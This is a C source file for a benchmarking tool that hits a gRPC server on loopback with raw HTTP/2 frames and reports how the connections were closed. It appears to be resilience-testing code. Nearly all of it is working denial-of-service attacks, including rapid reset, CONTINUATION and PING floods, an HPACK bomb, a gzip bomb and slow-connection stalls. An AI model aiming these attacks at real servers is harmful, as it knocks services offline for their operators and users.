/* Attacks a gRPC server with raw frames, on some connections at once, again and again, and tells how the connections ended.
 *
 *   bench_rpc_attack NAME|list --port P --path /package.Service/Method [--connections C] [--ms T]
 *
 * NAME is one of ATTACKS below; the path names a method of unary or client-streaming kind. A connection that is cut is made anew. One JSON line:
 * how many were made, cut, and by which GOAWAY; how many streams were reset. It judges nothing. */
#include "base/base.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <getopt.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>
#include <zlib.h>

enum { DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION, UNKNOWN = 0xbb };
enum { END_STREAM = 1, ACK = 1, END_HEADERS = 4, PADDED = 8 };
enum { OUT_MAX = 1 << 20, CHUNK = 16384, CODES = 16, PAUSE_MS = 5, PATIENCE_MS = 30000 };

struct target;

struct line {
    struct target *target;
    int fd;
    struct buffer out;
    size_t out_at;
    uint32_t stream, step;            /* the next stream's number; how many chunks were made */
    uint8_t head[17];                 /* of the frame being read: its header and the first of its payload */
    size_t head_size, skip;
    bool opened, told;                /* it has said its preface; a GOAWAY has come */
};

struct attack {
    const char *name;
    /** Appends the next bytes; nothing: the connection is held as it is. */
    void (*more)(struct line *line, struct buffer *out);
    bool unread;                      /* answers are not read */
    int64_t pace_ms;                  /* between chunks; 0: as fast as they are taken */
};

struct target {
    const struct attack *attack;
    int64_t port, connections, ms, goaways_wanted;
    const char *path;
    int epoll;
    struct line *lines;
    uint64_t made, cut, resets, sent, goaways[CODES], silent;
};

_Noreturn static void fail(const char *why)
{
    fprintf(stderr, "bench_rpc_attack: %s\n", why);
    exit(1);
}

static uint64_t now_ms(void)
{
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    return (uint64_t)now.tv_sec * 1000 + (uint64_t)now.tv_nsec / 1000000;
}

/* ---- frames ---- */

static void frame(struct buffer *out, uint8_t type, uint8_t flags, uint32_t stream, const void *payload, size_t size)
{
    uint8_t head[9] = {(uint8_t)(size >> 16), (uint8_t)(size >> 8), (uint8_t)size, type, flags, (uint8_t)(stream >> 24), (uint8_t)(stream >> 16), (uint8_t)(stream >> 8), (uint8_t)stream};
    buffer_append(out, head, sizeof head);
    buffer_append(out, payload, size);
}

static void literal(struct buffer *out, const char *name, const char *value, size_t size)
{
    ASSERT(strlen(name) < 127 && size < 127);
    buffer_u8(out, 0); /* without indexing, a new name */
    buffer_u8(out, (uint8_t)strlen(name));
    buffer_append(out, name, strlen(name));
    buffer_u8(out, (uint8_t)size);
    buffer_append(out, value, size);
}

/* A call's headers; more may follow in the same block. */
static void call_block(const struct line *line, struct buffer *out)
{
    const char *path = line->target->path;
    buffer_u8(out, 0x83); /* POST */
    buffer_u8(out, 0x86); /* http */
    literal(out, ":path", path, strlen(path));
    literal(out, ":authority", "x", 1);
    literal(out, "te", "trailers", 8);
    literal(out, "content-type", "application/grpc", 16);
    literal(out, "x-request-id", "attack", 6);
}

static uint32_t open_call(struct line *line, struct buffer *out, uint8_t flags, void (*extra)(struct buffer *block))
{
    struct buffer block;
    buffer_init(&block, OUT_MAX);
    call_block(line, &block);
    if (extra) extra(&block);
    uint32_t stream = line->stream;
    line->stream += 2;
    frame(out, HEADERS, flags, stream, block.data, block.size);
    buffer_deinit(&block);
    return stream;
}

/* ---- attacks ---- */

static void rapid_reset(struct line *line, struct buffer *out)
{
    static const uint8_t CANCEL[4] = {0, 0, 0, 8};
    for (int i = 0; i < 100; i++) frame(out, RST_STREAM, 0, open_call(line, out, END_HEADERS, NULL), CANCEL, sizeof CANCEL);
}

static void continuation(struct line *line, struct buffer *out)
{
    static const uint8_t HEADER[] = {0, 1, 'a', 1, 'b'};
    if (line->step == 0) open_call(line, out, 0, NULL);
    for (int i = 0; i < 1000; i++) frame(out, CONTINUATION, 0, 1, HEADER, sizeof HEADER);
}

static void frames_of(struct buffer *out, uint8_t type, uint32_t stream, const void *payload, size_t size)
{
    for (int i = 0; i < 500; i++) frame(out, type, 0, stream, payload, size);
}

static void settings(struct line *line, struct buffer *out)
{
    (void)line;
    frames_of(out, SETTINGS, 0, NULL, 0);
}

static void ping(struct line *line, struct buffer *out)
{
    (void)line;
    frames_of(out, PING, 0, "\0\0\0\0\0\0\0", 8);
}

static void priority(struct line *line, struct buffer *out)
{
    frames_of(out, PRIORITY, 1 + 2 * (line->step % 1000), "\0\0\0\0\1", 5);
}

static void unknown(struct line *line, struct buffer *out)
{
    (void)line;
    frames_of(out, UNKNOWN, 0, "x", 1);
}

static void window_update(struct line *line, struct buffer *out)
{
    (void)line;
    frames_of(out, WINDOW_UPDATE, 0, "\0\0\0\1", 4);
}

static void window_overflow(struct line *line, struct buffer *out)
{
    (void)line;
    for (int i = 0; i < 2; i++) frame(out, WINDOW_UPDATE, 0, 0, "\177\377\377\377", 4);
}

static void empty_data(struct line *line, struct buffer *out)
{
    if (line->step == 0) open_call(line, out, END_HEADERS, NULL);
    frames_of(out, DATA, 1, NULL, 0);
}

static void padded_data(struct line *line, struct buffer *out)
{
    if (line->step == 0) open_call(line, out, END_HEADERS, NULL);
    for (int i = 0; i < 500; i++) frame(out, DATA, PADDED, 1, "", 1);
}

static void hpack_bomb(struct line *line, struct buffer *out)
{
    struct buffer block;
    buffer_init(&block, OUT_MAX);
    call_block(line, &block);
    enum { VALUE = 4000, REFERENCES = 12000 };
    buffer_u8(&block, 0x40); /* into the table: a name of one byte, a value of 4000 */
    buffer_u8(&block, 1);
    buffer_u8(&block, 'a');
    buffer_append(&block, "\177\241\036", 3);
    for (int i = 0; i < VALUE; i++) buffer_u8(&block, 'b');
    for (int i = 0; i < REFERENCES && block.size < CHUNK; i++) buffer_u8(&block, 0x80 | 62);
    frame(out, HEADERS, END_HEADERS | END_STREAM, line->stream, block.data, block.size);
    line->stream += 2;
    buffer_deinit(&block);
}

static void hundred_headers(struct buffer *block)
{
    char value[100];
    memset(value, 'v', sizeof value);
    for (int i = 0; i < 100; i++) literal(block, "x-large", value, sizeof value);
    for (int i = 0; i < 40; i++) literal(block, "x-larger", value, sizeof value);
}

static void large_headers(struct line *line, struct buffer *out)
{
    open_call(line, out, END_HEADERS | END_STREAM, hundred_headers);
}

/* Calls whose answers nobody takes: no window, then no reading. */
static void whole_calls(struct line *line, struct buffer *out)
{
    uint8_t message[5 + 4096 + 3] = {0, 0, 0, 0x10, 0x03, 0x0a, 0x80, 0x20};
    for (int i = 0; i < 20; i++) frame(out, DATA, END_STREAM, open_call(line, out, END_HEADERS, NULL), message, sizeof message);
}

static void zero_window(struct line *line, struct buffer *out)
{
    if (line->step == 0) frame(out, SETTINGS, 0, 0, "\0\4\0\0\0\0", 6);
    if (line->stream < 240) whole_calls(line, out);
}

static void half_open(struct line *line, struct buffer *out)
{
    while (line->stream < 400) open_call(line, out, END_HEADERS, NULL);
}

static void slow_body(struct line *line, struct buffer *out)
{
    if (line->step == 0) open_call(line, out, END_HEADERS, NULL);
    frame(out, DATA, 0, 1, "", 1);
}

static void tiny_data(struct line *line, struct buffer *out)
{
    static const uint8_t PREFIX[5] = {0, 0, 0x20, 0, 0};
    if (line->step == 0) frame(out, DATA, 0, open_call(line, out, END_HEADERS, NULL), PREFIX, sizeof PREFIX);
    for (int i = 0; i < 500; i++) frame(out, DATA, 0, 1, "x", 1);
}

static void giant_length(struct line *line, struct buffer *out)
{
    frame(out, DATA, 0, open_call(line, out, END_HEADERS, NULL), "\0\377\377\377\377", 5);
}

static void lying_length(struct line *line, struct buffer *out)
{
    frame(out, DATA, END_STREAM, open_call(line, out, END_HEADERS, NULL), "\0\0\20\0\0xxxx", 9);
}

static void two_messages(struct line *line, struct buffer *out)
{
    frame(out, DATA, END_STREAM, open_call(line, out, END_HEADERS, NULL), "\0\0\0\0\0\0\0\0\0\0", 10);
}

static void gzip_header(struct buffer *block)
{
    literal(block, "grpc-encoding", "gzip", 4);
}

/* Sixteen million zeros in sixteen thousand bytes. */
static void gzip_bomb(struct line *line, struct buffer *out)
{
    static uint8_t folded[65536];
    static size_t size;
    enum { ZEROS = 12 << 20 };
    if (size == 0) {
        uint8_t *zeros = mem_zalloc(ZEROS, 1);
        z_stream stream = {.next_in = zeros, .avail_in = ZEROS, .next_out = folded + 5, .avail_out = sizeof folded - 5};
        if (deflateInit2(&stream, 9, Z_DEFLATED, 15 + 16, 9, Z_DEFAULT_STRATEGY) != Z_OK || deflate(&stream, Z_FINISH) != Z_STREAM_END) fail("zlib");
        size = sizeof folded - stream.avail_out;
        deflateEnd(&stream);
        free(zeros);
        folded[0] = 1;
        folded[3] = (uint8_t)((size - 5) >> 8);
        folded[4] = (uint8_t)(size - 5);
    }
    ASSERT(size < CHUNK);
    frame(out, DATA, END_STREAM, open_call(line, out, END_HEADERS, gzip_header), folded, size);
}

static void slow_preface(struct line *line, struct buffer *out)
{
    static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    if (line->step < 20) buffer_append(out, &preface[line->step], 1);
}

static void noise(struct line *line, struct buffer *out)
{
    uint32_t bits = line->step * 2654435761u + 1;
    for (int i = 0; i < 4096; i++) {
        bits = bits * 1664525u + 1013904223u;
        buffer_u8(out, (uint8_t)(bits >> 24));
    }
}

/* The first bytes of a ClientHello, one after the other. */
static void slow_tls(struct line *line, struct buffer *out)
{
    static const uint8_t HELLO[] = {0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3};
    buffer_u8(out, line->step < sizeof HELLO ? HELLO[line->step] : 7);
}

static const struct attack ATTACKS[] = {
    {"rapid_reset", rapid_reset, false, 0}, {"continuation", continuation, false, 0}, {"settings", settings, false, 0}, {"settings_unread", settings, true, 0},
    {"ping", ping, false, 0}, {"ping_unread", ping, true, 0}, {"priority", priority, false, 0}, {"unknown", unknown, false, 0}, {"window_update", window_update, false, 0},
    {"window_overflow", window_overflow, false, 0}, {"empty_data", empty_data, false, 0}, {"padded_data", padded_data, false, 0}, {"hpack_bomb", hpack_bomb, false, 0},
    {"large_headers", large_headers, false, 0}, {"zero_window", zero_window, false, PAUSE_MS}, {"unread", whole_calls, true, 0}, {"half_open", half_open, false, PAUSE_MS},
    {"slow_body", slow_body, false, PAUSE_MS}, {"tiny_data", tiny_data, false, 0}, {"giant_length", giant_length, false, 0}, {"lying_length", lying_length, false, 0},
    {"two_messages", two_messages, false, 0}, {"gzip_bomb", gzip_bomb, false, 0}, {"slow_preface", slow_preface, false, PAUSE_MS}, {"noise", noise, false, 0},
    {"slow_tls", slow_tls, false, PAUSE_MS},
};

static bool is_bare(const struct attack *attack)
{
    return attack->more == slow_preface || attack->more == noise || attack->more == slow_tls;
}

/* ---- connections ---- */

static void line_open(struct line *line)
{
    struct target *target = line->target;
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((uint16_t)target->port), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    int yes = 1;
    buffer_clear(&line->out);
    line->out_at = line->head_size = line->skip = line->step = 0;
    line->stream = 1;
    line->told = false;
    line->opened = is_bare(target->attack);
    line->fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (line->fd < 0) fail(strerror(errno));
    const struct linger none = {1, 0}; /* a port is free again at once */
    setsockopt(line->fd, SOL_SOCKET, SO_LINGER, &none, sizeof none);
    if (connect(line->fd, (struct sockaddr *)&to, sizeof to) != 0) fail(strerror(errno));
    setsockopt(line->fd, IPPROTO_TCP, TCP_NODELAY, &yes, sizeof yes);
    fcntl(line->fd, F_SETFL, O_NONBLOCK);
    struct epoll_event event = {.events = EPOLLIN | (target->attack->pace_ms ? 0u : EPOLLOUT), .data.ptr = line};
    if (target->attack->unread) event.events &= ~(uint32_t)EPOLLIN;
    if (epoll_ctl(target->epoll, EPOLL_CTL_ADD, line->fd, &event) != 0) fail(strerror(errno));
    target->made++;
}

static void line_cut(struct line *line)
{
    line->target->cut++;
    if (!line->told) line->target->silent++;
    close(line->fd);
    line_open(line);
}

/* GOAWAYs and resets among what the server says. */
static void hear(struct line *line, const uint8_t *bytes, size_t count)
{
    struct target *target = line->target;
    for (size_t at = 0; at < count;) {
        if (line->skip && line->head_size >= 9 && (line->head[3] != GOAWAY || line->head_size == sizeof line->head)) {
            size_t take = line->skip < count - at ? line->skip : count - at;
            line->skip -= take;
            at += take;
            if (line->skip == 0) line->head_size = 0;
            continue;
        }
        line->head[line->head_size++] = bytes[at++];
        if (line->head_size == 9) {
            line->skip = (size_t)line->head[0] << 16 | (size_t)line->head[1] << 8 | line->head[2];
            if (line->head[3] == RST_STREAM) target->resets++;
        } else if (line->head_size > 9) {
            line->skip--;
        }
        if (line->head_size == sizeof line->head && !line->told) {
            line->told = true;
            target->goaways[line->head[16] < CODES ? line->head[16] : 0]++;
        }
        if (line->head_size >= 9 && line->skip == 0) line->head_size = 0;
    }
}

static bool line_read(struct line *line)
{
    static uint8_t bytes[65536];
    ssize_t count = recv(line->fd, bytes, sizeof bytes, 0);
    if (count < 0 && errno == EAGAIN) return true;
    if (count > 0 && !is_bare(line->target->attack)) hear(line, bytes, (size_t)count);
    return count > 0;
}

/* Once; what a full socket leaves is sent the next time. */
static bool line_write(struct line *line)
{
    if (line->out_at == line->out.size) {
        buffer_clear(&line->out);
        line->out_at = 0;
        if (!line->opened) {
            buffer_append(&line->out, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 24);
            frame(&line->out, SETTINGS, 0, 0, NULL, 0);
            line->opened = true;
        }
        line->target->attack->more(line, &line->out);
        line->step++;
    }
    if (line->out.size == line->out_at) return true;
    ssize_t count = send(line->fd, line->out.data + line->out_at, line->out.size - line->out_at, MSG_NOSIGNAL);
    if (count < 0) return errno == EAGAIN;
    line->out_at += (size_t)count;
    line->target->sent += (uint64_t)count;
    return true;
}

static int64_t goaways_heard(const struct target *target)
{
    int64_t heard = 0;
    for (int code = 0; code < CODES; code++) heard += (int64_t)target->goaways[code];
    return heard;
}

static void run(struct target *target)
{
    struct epoll_event events[256];
    uint64_t until = now_ms() + (uint64_t)target->ms, last = now_ms() + PATIENCE_MS, next = 0;
    for (int64_t i = 0; i < target->connections; i++) {
        target->lines[i].target = target;
        buffer_init(&target->lines[i].out, OUT_MAX);
        line_open(&target->lines[i]);
    }
    while (now_ms() < until || (now_ms() < last && goaways_heard(target) < target->goaways_wanted)) {
        int count = epoll_wait(target->epoll, events, COUNT_OF(events), PAUSE_MS);
        for (int i = 0; i < count; i++) {
            struct line *line = events[i].data.ptr;
            bool alive = true;
            if (events[i].events & EPOLLIN) alive = line_read(line);
            if (alive && (events[i].events & EPOLLOUT)) alive = line_write(line);
            if (!alive || (events[i].events & (EPOLLERR | EPOLLHUP))) line_cut(line);
        }
        if (target->attack->pace_ms == 0 || now_ms() < next) continue;
        next = now_ms() + (uint64_t)target->attack->pace_ms;
        for (int64_t i = 0; i < target->connections; i++)
            if (!line_write(&target->lines[i])) line_cut(&target->lines[i]);
    }
}

/* ---- the program ---- */

static bool read_options(int argc, char **argv, struct target *target)
{
    static const struct option OPTIONS[] = {{"port", required_argument, NULL, 'p'}, {"path", required_argument, NULL, 'm'}, {"connections", required_argument, NULL, 'c'},
        {"ms", required_argument, NULL, 't'}, {"goaways", required_argument, NULL, 'g'}, {NULL, 0, NULL, 0}};
    *target = (struct target){.connections = 10, .ms = 5000};
    for (size_t i = 0; argc > 1 && i < COUNT_OF(ATTACKS); i++)
        if (strcmp(ATTACKS[i].name, argv[1]) == 0) target->attack = &ATTACKS[i];
    for (int option; (option = getopt_long(argc - 1, argv + 1, "", OPTIONS, NULL)) != -1;) {
        int64_t *value = option == 'p' ? &target->port : option == 'c' ? &target->connections : option == 't' ? &target->ms : option == 'g' ? &target->goaways_wanted : NULL;
        if (option == 'm') target->path = optarg;
        else if (!value || !text_to_i64(optarg, 1, 65535, value)) return false;
    }
    return target->attack && target->port && target->path && strlen(target->path) < 127;
}

int main(int argc, char **argv)
{
    static struct target target;
    if (argc == 2 && strcmp(argv[1], "list") == 0) {
        for (size_t i = 0; i < COUNT_OF(ATTACKS); i++) puts(ATTACKS[i].name);
        return 0;
    }
    if (argc < 2 || !read_options(argc, argv, &target)) {
        fprintf(stderr, "usage: bench_rpc_attack NAME|list --port P --path /package.Service/Method [--connections C] [--ms T] [--goaways N: longer, until N were heard]\n");
        return 2;
    }
    struct rlimit files;
    if (getrlimit(RLIMIT_NOFILE, &files) == 0) {
        files.rlim_cur = files.rlim_max;
        setrlimit(RLIMIT_NOFILE, &files);
    }
    target.epoll = epoll_create1(EPOLL_CLOEXEC);
    target.lines = mem_zalloc((size_t)target.connections, sizeof *target.lines);
    run(&target);
    printf("{\"attack\":\"%s\",\"made\":%llu,\"cut\":%llu,\"without_goaway\":%llu,\"resets\":%llu,\"sent_mb\":%.1f,\"goaways\":{", target.attack->name, (unsigned long long)target.made,
           (unsigned long long)target.cut, (unsigned long long)target.silent, (unsigned long long)target.resets, (double)target.sent / 1e6);
    const char *comma = "";
    for (int code = 0; code < CODES; code++) {
        if (!target.goaways[code]) continue;
        printf("%s\"%d\":%llu", comma, code, (unsigned long long)target.goaways[code]);
        comma = ",";
    }
    printf("}}\n");
    return 0;
}
